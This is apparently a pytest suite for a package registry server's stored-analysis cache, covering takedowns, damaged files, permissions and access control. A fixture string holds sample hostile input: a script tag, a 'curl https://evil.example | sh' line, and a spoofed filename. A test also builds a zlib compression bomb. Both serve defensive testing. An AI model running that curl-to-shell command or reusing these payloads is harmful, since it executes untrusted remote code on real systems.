"""Stored analyses (design/server.md 5): an item's first view is cheap, and nothing stored outlives its inputs."""

from __future__ import annotations

import hashlib
import sqlite3
import subprocess
import sys
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from registry_server.accounts import registry_keys as server_keys
from registry_server.pages import analysis_store, analyst, item, page_layout, release_analysis
from registry_server.pages.analysis_store import FILE, AnalysisStore
from registry_server.pages.analyst import Analyst
from registry_server.pages.limits import PAGES, PageLimits
from registry_server.sequencer.ledger import Ledger
from registry_server.storage import database
from registry_server.upkeep import takedown
from rye.items.identity import Identity
from tests.scenes.directive_text import directive
from tests.scenes.local_registry import LocalRegistry
from tests.scenes.publisher import Publisher
from tests.server.unexamined import put

HTML, JSON = {"Accept": "text/html"}, {"Accept": "application/json"}
HOSTILE = "# x\n\n<script>alert(1)</script> ![x](https://evil.example/x.png) curl https://evil.example | sh\n\n\u202egnp.exe\n"


class Clock:
    def __init__(self) -> None:
        self.now = 1_000.0

    def __call__(self) -> float:
        return self.now


class PausedAnalyst:
    """A registry whose analyst works when the test says so. AnalysisStore from bytes are counted."""

    def __init__(self, data: Path, patch: pytest.MonkeyPatch, settings: str = "", *, make: bool = True) -> None:
        patch.setattr(Analyst, "start", lambda _self: None)
        self.local = LocalRegistry(data, settings, make=make)
        self.acme = self.local.owner("acme") if make else Publisher("acme")
        self.analysed: list[str] = []
        self.clock = Clock()
        service = self.local.service
        self.analyst = service.analyst
        self.analyst._clock = self.clock
        self.analyst._busy = 0.0
        self.stored: AnalysisStore = self.analyst._analyses
        analyse = release_analysis.analyse

        def counted(record: Any, files: Any) -> Any:
            self.analysed.append(f"{record.identity.id}@{record.version}")
            return analyse(record, files)

        for module in (item, analyst):
            patch.setattr(module, "analyse", counted)

    def put(self, name: str, data: str = "", version: str = "1.0.0", **changes: Any) -> Identity:
        identity = Identity("directive", f"acme/a/{name}")
        put(self.local, self.acme, identity, version, (data or directive(f"a/{name}", version)).encode(), **changes)
        self.local.service.pages.forget_head()
        return identity

    def catch_up(self) -> None:
        self.clock.now += 2 * PAGES.analysis_quiet_seconds
        while self.analyst.round():
            self.clock.now += PAGES.analysis_quiet_seconds

    def forget_pages(self) -> None:
        self.local.service.pages._made._values.clear()
        self.stored._kept._values.clear()
        self.analysed.clear()

    def page(self, name: str, form: dict[str, str] = HTML, token: str = "", status: int = 200) -> str:
        answer = self.local.get(f"/-/directive/acme/a/{name}", token, headers=form)
        assert answer.status_code == status, answer.text
        return answer.text

    def take_down(self, what: str) -> None:
        service = self.local.service
        with database.reader(service.engine) as connection:
            plan = takedown.plan(Ledger(connection), what, "A court said so")
        owners = server_keys.in_folder(service.settings.keys, "root")
        takedown.publish(service.sequencer, takedown.signed(plan.statements, owners))
        service.pages.forget_head()

    @property
    def file(self) -> Path:
        return self.local.data / FILE

    def rows(self) -> list[tuple[str, bytes]]:
        with sqlite3.connect(self.file) as connection:
            return connection.execute("SELECT release, value FROM analysis ORDER BY rowid").fetchall()


@pytest.fixture
def paused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[PausedAnalyst]:
    made = PausedAnalyst(tmp_path / "data", monkeypatch)
    yield made
    made.local.close()


class TestWhatIsStored:
    def test_a_page_nobody_saw_is_made_without_reading_the_release(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        assert paused.analysed == ["acme/a/item@1.0.0"]
        paused.forget_pages()
        read: list[str] = []
        paused.local.service.pages._store.get_all = lambda paths: read.extend(paths) or []  # type: ignore[method-assign, func-returns-value]
        assert "Clients refuse" in paused.page("item")  # the test's bytes are not signed
        assert (paused.analysed, read) == ([], [])

    @pytest.mark.parametrize("text", [HOSTILE, "", "# All\n\n" + "A paragraph & more.\n\n" * 2_000])
    def test_it_says_exactly_what_the_bytes_say(self, paused: PausedAnalyst, text: str) -> None:
        paused.put("item", text)
        made = paused.page("item"), paused.page("item", JSON)
        assert "<script>" not in made[0]
        paused.analyst.round()
        paused.forget_pages()
        assert (paused.page("item"), paused.page("item", JSON)) == made
        assert paused.analysed == []

    def test_what_a_reader_asked_for_first_is_stored_too(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.page("item")
        assert paused.stored.is_waiting
        paused.catch_up()
        assert [release for release, _ in paused.rows()] == ["directive:acme/a/item@1.0.0"]
        assert paused.analysed == ["acme/a/item@1.0.0"]

    def test_it_outlives_the_server(self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch) -> None:
        paused.put("item")
        paused.catch_up()
        again = PausedAnalyst(paused.local.data, monkeypatch, make=False)
        again.page("item")
        again.catch_up()
        assert again.analysed == []
        again.local.close()

    def test_nothing_of_a_release_whose_bytes_are_missing(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", "Sometimes there\n")
        with database.reader(paused.local.service.engine) as connection:
            assert Ledger(connection).release(str(identity), "1.0.0") is not None
        paused.local.service.public.delete(f"blobs/sha256/{'/'.join(_places(b'Sometimes there' + bytes([10])))}")
        paused.page("item")
        paused.catch_up()
        assert paused.rows() == []

    def test_only_the_newest_entries_are_analysed_ahead(
        self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(analyst, "PAGES", PageLimits(analysed_entries=4))
        for name in ("one", "two", "three"):
            paused.put(name)
        paused.catch_up()
        assert paused.analysed == ["acme/a/two@1.0.0", "acme/a/three@1.0.0"]


def _places(data: bytes) -> tuple[str, str]:
    sha256 = hashlib.sha256(data).hexdigest()
    return sha256[:2], sha256


class TestOtherCode:
    def test_what_other_code_stored_is_deleted_and_not_used(self, tmp_path: Path, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        paused.stored.close()
        before = paused.file.stat().st_ino
        paused.stored._code = b"another version"
        paused.forget_pages()
        paused.page("item")
        assert paused.analysed == ["acme/a/item@1.0.0"]
        assert paused.file.stat().st_ino != before or paused.rows() == []
        paused.catch_up()
        assert len(paused.rows()) == 1

    def test_the_code_s_identity_has_the_pages_and_the_readers(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        def code(readers: bytes, pages: str) -> bytes | None:
            monkeypatch.setattr(analysis_store, "running_code", lambda: readers)
            monkeypatch.setattr(page_layout, "version", lambda: pages)
            made = AnalysisStore(tmp_path / FILE)
            made.entries()
            made.close()
            return made._code

        assert len({code(b"a", "a"), code(b"b", "a"), code(b"a", "b")}) == 3


class TestTakedown:
    SECRET = "# Title\n\nThe word xyzzy\n"

    def test_what_was_taken_down_leaves_the_file_and_is_overwritten_there(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", self.SECRET)
        paused.put("other")
        paused.catch_up()
        value = dict(paused.rows())[f"{identity}@1.0.0"]
        assert value in paused.file.read_bytes()
        paused.take_down(f"{identity}@1.0.0")
        assert "xyzzy" not in paused.page("item", status=451)  # before the file is read
        paused.analyst.follow_takedowns()
        assert [release for release, _ in paused.rows()] == ["directive:acme/a/other@1.0.0"]
        data = paused.file.read_bytes()
        assert value[-64:] not in data
        assert value[:64] not in data
        assert list(paused.file.parent.glob(f"{FILE}*")) == [paused.file]

    def test_what_waits_to_be_written_is_not_written_any_more(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", self.SECRET)
        paused.page("item")
        paused.take_down(f"{identity}@1.0.0")
        paused.analyst.round()
        assert paused.rows() == []

    def test_the_same_bytes_under_another_name_go_too(self, paused: PausedAnalyst) -> None:
        for name in ("item", "copy"):
            paused.put(name, self.SECRET)
        paused.catch_up()
        paused.take_down(hashlib.sha256(self.SECRET.encode()).hexdigest())
        assert "xyzzy" not in paused.page("copy", status=451)
        paused.analyst.follow_takedowns()
        assert paused.rows() == []

    def test_a_release_of_one_shared_file_that_is_gone_is_not_shown_from_the_store(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", self.SECRET)
        paused.catch_up()
        with database.writer(
            paused.local.service.engine
        ) as connection:  # as if a statement about another release referred to it
            sha256 = hashlib.sha256(self.SECRET.encode()).hexdigest()
            row = (sha256, 1, "directive:acme/a/other", "1.0.0", "No")
            connection.exec_driver_sql(
                "INSERT INTO takedowns (sha256, position, name, version, reason) VALUES (?, ?, ?, ?, ?)", row
            )
        paused.forget_pages()
        assert "xyzzy" not in paused.page("item")
        assert identity.id in paused.page("item")

    def test_where_it_cannot_be_overwritten_the_whole_file_goes(
        self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        identity = paused.put("item", self.SECRET)
        paused.catch_up()
        holder = sqlite3.connect(paused.file)
        holder.execute("BEGIN IMMEDIATE")
        paused.take_down(f"{identity}@1.0.0")
        paused.analyst.follow_takedowns()
        assert not paused.file.exists()
        holder.close()

    def test_a_file_that_was_left_alone_goes_too(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", self.SECRET)
        paused.catch_up()
        paused.stored._judge(OSError("a read-only disk"))
        assert not paused.stored.is_stored
        assert paused.file.exists()
        paused.take_down(f"{identity}@1.0.0")
        paused.analyst.follow_takedowns()
        assert not paused.file.exists()

    def test_memory_forgets_it_too_though_it_was_never_written(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", self.SECRET)
        paused.page("item")
        paused.take_down(f"{identity}@1.0.0")
        paused.analyst.follow_takedowns()
        assert not paused.stored._kept._values

    def test_it_leaves_a_copy_that_was_put_in_the_file_s_place(self, paused: PausedAnalyst) -> None:
        identity = paused.put("item", self.SECRET)
        paused.catch_up()
        data = paused.file.read_bytes()
        paused.file.rename(paused.file.with_suffix(".moved"))
        paused.file.write_bytes(data)
        paused.take_down(f"{identity}@1.0.0")
        paused.analyst.follow_takedowns()
        assert not paused.file.exists()

    def test_where_the_file_cannot_be_deleted_it_is_tried_again(
        self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        identity = paused.put("item", self.SECRET)
        paused.catch_up()
        paused.take_down(f"{identity}@1.0.0")
        with monkeypatch.context() as patch:

            def refused(_path: Path, missing_ok: bool = False) -> None:
                raise PermissionError("read-only")

            patch.setattr(Path, "unlink", refused)
            patch.setattr(paused.stored, "_is_usable", False)
            paused.analyst.follow_takedowns()
            assert paused.file.exists()
        paused.analyst.follow_takedowns()
        assert not paused.file.exists() or paused.rows() == []


class TestDamage:
    def test_a_file_whose_writer_was_killed_starts_over(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        paused.stored.close()
        with sqlite3.connect(paused.file) as connection:  # as left by a process that is killed while writing
            connection.execute("UPDATE state SET is_whole = 0")
        paused.forget_pages()
        paused.page("item")
        assert paused.analysed == ["acme/a/item@1.0.0"]
        paused.catch_up()
        assert len(paused.rows()) == 1

    def test_a_change_that_fails_leaves_a_whole_file(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        rows = paused.rows()
        database = paused.stored._open(paused.file)
        with pytest.raises(sqlite3.OperationalError), analysis_store._change(database):
            database.execute("DELETE FROM analysis").execute("DELETE FROM nothing")
        paused.stored.close()
        paused.forget_pages()
        paused.page("item")
        assert (paused.analysed, paused.rows()) == ([], rows)

    def test_a_file_that_other_code_prepares_at_the_same_moment_is_not_read_unseen(
        self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        paused.put("item")
        paused.catch_up()
        paused.stored.close()
        with sqlite3.connect(paused.file) as connection:
            connection.execute("UPDATE state SET code = ?", (b"older",))

        def busy(_database: sqlite3.Connection, _code: bytes) -> bool:
            raise sqlite3.OperationalError("database is locked")

        with monkeypatch.context() as patch:
            patch.setattr(analysis_store, "_is_ours", busy)
            patch.setattr(AnalysisStore, "_judge", lambda _self, _error: None)
            assert paused.stored.entries() is None
        paused.forget_pages()
        paused.page("item")
        assert paused.analysed == ["acme/a/item@1.0.0"]

    @pytest.mark.parametrize("entries", ["text", -5, b"1", 2.5])
    def test_a_number_of_entries_that_is_none_counts_as_unknown(self, paused: PausedAnalyst, entries: object) -> None:
        paused.put("item")
        paused.catch_up()
        with sqlite3.connect(paused.file) as connection:
            connection.execute("UPDATE state SET entries = ?", (entries,))
        assert paused.stored.entries() is None
        paused.catch_up()
        assert isinstance(paused.stored.entries(), int)

    def test_a_damaged_row_is_made_again(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        made = paused.page("item")
        whole = paused.rows()
        paused.stored.close()
        with sqlite3.connect(paused.file) as connection:
            connection.execute("UPDATE analysis SET value = substr(value, 1, 100)")
        paused.forget_pages()
        assert paused.page("item") == made
        assert paused.analysed == ["acme/a/item@1.0.0"]
        paused.catch_up()
        assert paused.rows() == whole

    @pytest.mark.parametrize("value", [b"", "text", 1])
    def test_a_row_of_another_form_is_none(self, paused: PausedAnalyst, value: object) -> None:
        paused.put("item")
        paused.catch_up()
        with sqlite3.connect(paused.file) as connection:
            connection.execute("UPDATE analysis SET value = ?", (value,))
        paused.forget_pages()
        paused.page("item")
        assert paused.analysed == ["acme/a/item@1.0.0"]

    def test_a_row_of_another_release_is_none(self, paused: PausedAnalyst) -> None:
        for name in ("item", "other"):
            paused.put(name)
        paused.catch_up()
        values = [value for _, value in paused.rows()]
        with sqlite3.connect(paused.file) as connection:
            connection.execute("UPDATE analysis SET value = ?", (values[1],))
        paused.forget_pages()
        assert "a/item" in paused.page("item")
        assert paused.analysed == ["acme/a/item@1.0.0"]

    def test_a_row_that_unpacks_to_more_than_an_analysis_may_have_is_none(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        with sqlite3.connect(paused.file) as connection:
            ((key,),) = connection.execute("SELECT key FROM analysis").fetchall()
            bomb = zlib.compress(b"\x00" * (PAGES.analysis_bytes + 1))
            check = hashlib.sha256(key + bomb).digest()[:8]
            connection.execute("UPDATE analysis SET value = ?", (check + bomb,))
        paused.forget_pages()
        paused.page("item")
        assert paused.analysed == ["acme/a/item@1.0.0"]

    @pytest.mark.parametrize("content", [b"", b"not a database" * 1000, b"SQLite format 3\0" + b"\xff" * 5000])
    def test_a_damaged_file_starts_over(self, paused: PausedAnalyst, content: bytes) -> None:
        paused.put("item")
        paused.catch_up()
        paused.stored.close()
        paused.file.write_bytes(content)
        paused.forget_pages()
        paused.page("item")
        paused.catch_up()
        paused.catch_up()
        assert [release for release, _ in paused.rows()] == ["directive:acme/a/item@1.0.0"]

    def test_without_a_usable_file_pages_are_made_each_time(self, paused: PausedAnalyst) -> None:
        paused.file.mkdir()
        paused.put("item")
        assert "acme" in paused.page("item")
        assert not paused.stored.is_stored
        assert not paused.analyst.round()
        paused.local.service.pages._made._values.clear()
        paused.analysed.clear()
        paused.page("item")
        assert paused.analysed == []  # it is still in memory

    def test_on_a_full_disk_the_file_gives_its_space_back(
        self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(analysis_store, "_SETTINGS", (*analysis_store._SETTINGS, "max_page_count=6"))
        for number in range(8):
            paused.put(f"n{number}")
        paused.catch_up()
        assert not paused.stored.is_stored
        assert not paused.file.exists()
        assert "acme" in paused.page("n7")

    def test_the_file_is_the_operator_s_own(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.catch_up()
        assert paused.file.stat().st_mode & 0o777 == 0o600

    def test_of_a_file_that_is_full_the_oldest_rows_go(
        self, paused: PausedAnalyst, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(analysis_store, "PAGES", PageLimits(analyses_bytes=60_000))
        monkeypatch.setattr(analyst, "PAGES", PageLimits(analysed_at_once=1, analysis_share=1))
        names = [f"n{number}" for number in range(24)]
        for name in names:
            paused.put(name)
        paused.catch_up()
        left = [release for release, _ in paused.rows()]
        assert left == [f"directive:acme/a/{name}@1.0.0" for name in names[-len(left) :]]
        assert 2 < len(left) < len(names)
        assert paused.file.stat().st_size < 90_000


class TestPublishing:
    def test_a_publish_analyses_nothing(self, paused: PausedAnalyst) -> None:
        token = paused.local.token()
        for number in range(3):
            assert paused.local.publish(paused.acme, f"a/item{number}", token).status_code == 200
            paused.analyst.round()
        assert paused.analysed == []
        paused.clock.now += PAGES.analysis_quiet_seconds
        paused.catch_up()
        assert len(paused.analysed) == 3

    def test_an_analysis_waits_while_a_publish_is_at_work(self, paused: PausedAnalyst) -> None:
        paused.put("item")
        paused.local.service._writing += 1
        assert paused.analyst.round()
        assert paused.analysed == []
        paused.local.service._writing -= 1
        paused.catch_up()
        assert paused.analysed == ["acme/a/item@1.0.0"]

    def test_readers_who_need_analyses_now_come_first_too(self, paused: PausedAnalyst) -> None:
        for name in ("item", "other"):
            paused.put(name)
        paused.page("other")
        assert paused.analyst.round()
        assert paused.analysed == ["acme/a/other@1.0.0"]
        paused.catch_up()
        assert paused.analysed == ["acme/a/other@1.0.0", "acme/a/item@1.0.0"]

    def test_the_thread_follows_a_publish_and_ends_with_the_server(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(analyst, "PAGES", PageLimits(analysis_quiet_seconds=0.01))
        local, acme = LocalRegistry(tmp_path / "data"), Publisher("acme")
        token = local.token()
        assert local.statements(token, acme.claim()).status_code == 200
        assert local.publish(acme, "a/item", token).status_code == 200
        thread, stored = local.service.analyst._thread, local.service.analyst._analyses
        assert thread is not None
        until = time.monotonic() + 10
        with database.reader(local.service.engine) as connection:
            size = Ledger(connection).size
        while stored.entries() != size and time.monotonic() < until:
            time.sleep(0.01)
        local.close()
        assert not thread.is_alive()
        with sqlite3.connect(tmp_path / "data" / FILE) as connection:
            assert connection.execute("SELECT release FROM analysis").fetchall() == [("directive:acme/a/item@1.0.0",)]


def test_a_stored_analysis_is_shown_to_nobody_who_may_not_read_the_item(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    paused = PausedAnalyst(tmp_path / "data", monkeypatch, 'read = "namespaces"\n')
    paused.put("item", TestTakedown.SECRET)
    paused.catch_up()
    assert len(paused.rows()) == 1
    mine, other = (paused.local.token(name, scopes=["read"]) for name in ("acme", "other"))
    assert "xyzzy" in paused.page("item", token=mine)
    assert "xyzzy" not in paused.page("item", token=other, status=404)
    assert "xyzzy" not in paused.page("item", JSON, token=other, status=404)
    assert paused.analysed == ["acme/a/item@1.0.0"]
    paused.local.close()


@pytest.mark.processes
def test_many_threads_may_read_the_first_analysis_together() -> None:
    """msgspec crashes when threads create a type's first decoder at the same moment, as the first views after a start do."""
    done = subprocess.run(
        [sys.executable, "-c", _FIRST_READS], capture_output=True, text=True, check=False, timeout=120
    )
    assert (done.returncode, done.stderr) == (0, "")


_FIRST_READS = """
import os, sys, threading
from registry_server.pages.release_analysis import Analysis, Parts, decode, encode
from registry_server.pages.page_budget import Rows
from registry_server.pages.item_view import MayDo
none = Rows()
data, _ = encode(Analysis(MayDo(None, none, none, (), none, none, none, none, None), None, None, Parts("", "", "")))
sys.setswitchinterval(1e-5)

def read(barrier):
    barrier.wait()
    decode(data)

for _ in range(30):
    child = os.fork()
    if not child:
        barrier = threading.Barrier(6)
        threads = [threading.Thread(target=read, args=(barrier,)) for _ in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        sys.exit(f"a process ended with {status}")
"""
